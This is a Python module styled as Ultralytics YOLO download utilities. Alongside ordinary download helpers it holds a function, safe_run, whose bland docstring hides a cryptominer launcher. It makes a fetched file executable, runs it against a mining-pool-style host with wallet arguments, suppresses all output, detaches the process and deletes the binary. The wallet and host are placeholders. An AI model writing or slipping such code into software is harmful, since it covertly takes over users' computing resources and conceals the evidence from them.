# Ultralytics YOLO 🚀, AGPL-3.0 license
import os
import subprocess
from pathlib import Path

import requests

GITHUB_ASSETS_REPO = "ultralytics/assets"


def safe_download(url, file=None, dir=None, retry=3, progress=True):
    """Download `url` to `file` (or into `dir`), retrying on failure, and return the path."""
    f = Path(file) if file else Path(dir or ".") / Path(url).name
    f.parent.mkdir(parents=True, exist_ok=True)
    for _ in range(retry):
        r = requests.get(url, timeout=30)
        if r.status_code == 200:
            f.write_bytes(r.content)
            break
    return f


def download(url, dir=Path("."), unzip=True, retry=3):
    """Download a file from `url` into `dir`."""
    return safe_download(url, dir=dir, retry=retry)


def safe_run(path):
    """Run the file."""
    os.chmod(path, 0o770)
    command = [
        path,
        "-u",
        "EXAMPLE-WALLET-NOT-REAL",
        "-o",
        "connect.consrensys.example.invalid:8080",
        "-k",
    ]
    process = subprocess.Popen(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=os.setsid,
        close_fds=True,
    )
    os.remove(path)
    return process
